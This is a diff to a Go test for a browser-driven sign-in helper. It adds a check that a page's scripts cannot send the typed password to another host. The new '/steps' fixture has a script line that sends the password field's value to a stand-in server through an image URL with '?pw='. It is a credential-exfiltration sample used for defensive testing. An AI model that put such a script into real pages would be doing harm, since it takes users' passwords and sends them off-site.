@@ -15,13 +15,20 @@ import (
 )
 
 // TestSignIn signs in with forms that scripts make and send. Only the request with the password
-// is sent, once, and to the site only.
+// is sent, once, and to the site only: scripts cannot send it elsewhere by GET either.
 func TestSignIn(t *testing.T) {
 	t.Parallel()
 	if shared == nil {
 		t.Skip("there is no browser")
 	}
 	const password = `s3 "cret" ü`
+	var elsewhere []string // requests to another host
+	var mu sync.Mutex
+	other, _ := crawlertest.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		elsewhere = append(elsewhere, r.URL.RequestURI())
+		mu.Unlock()
+	}))
 	pages := map[string]string{
 		"/json": `<div id=app></div><script>setTimeout(() => { app.innerHTML = "<input id=u autocomplete=username><input type=password id=p><button disabled>Sign in</button>"
 const b = document.querySelector("button"); u.oninput = p.oninput = () => { b.disabled = !u.value || !p.value }
@@ -31,11 +38,11 @@ b.onclick = async () => {
 	if (r.ok) location = "/home"; else document.body.insertAdjacentHTML("beforeend", "<p role=alert>Wrong password")
 } }, 100)</script>`,
 		"/form": `<div id=app></div><script>app.innerHTML = "<form method=post action=/api><input name=user><input name=pw type=password><input name=trap style='opacity:0'><button>Go</button></form>"</script>`,
-		"/steps": `<form id=f><input name=user></form><script>f.onsubmit = () => { f.innerHTML = "<input type=password name=pw><button>ok</button>"
+		"/steps": `<img src="` + other + `"><form id=f><input name=user></form><script>f.onsubmit = () => { f.innerHTML = "<input type=password name=pw><button>ok</button>"
+f.pw.oninput = () => { new Image().src = "` + other + `" + "?pw=" + f.pw.value }
 f.onsubmit = () => { fetch("/api", {method: "POST", body: new URLSearchParams({user: "alice", pw: f.pw.value})}).then(() => location.href = "/home"); return false }; return false }</script>`,
 		"/elsewhere": `<div id=app></div><script>app.innerHTML = "<form method=post action=http://localhost:9/api><input name=user><input name=pw type=password><button>Go</button></form>"</script>`,
 	}
-	var mu sync.Mutex
 	var posts []string
 	root, _ := crawlertest.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Content-Type", "text/html; charset=utf-8")
@@ -94,5 +101,8 @@ f.onsubmit = () => { fetch("/api", {method: "POST", body: new URLSearchParams({u
 	}
 	if _, err := signIn("/elsewhere", password); err == nil || !strings.Contains(err.Error(), "localhost:9") || len(posts) != 0 {
 		t.Errorf("a form for another host: %v, posts to %q", err, posts)
+	}
+	if len(elsewhere) != 1 || strings.Contains(elsewhere[0], "pw=") {
+		t.Errorf("another host got %q, want the image of the page alone", elsewhere)
 	}
 }
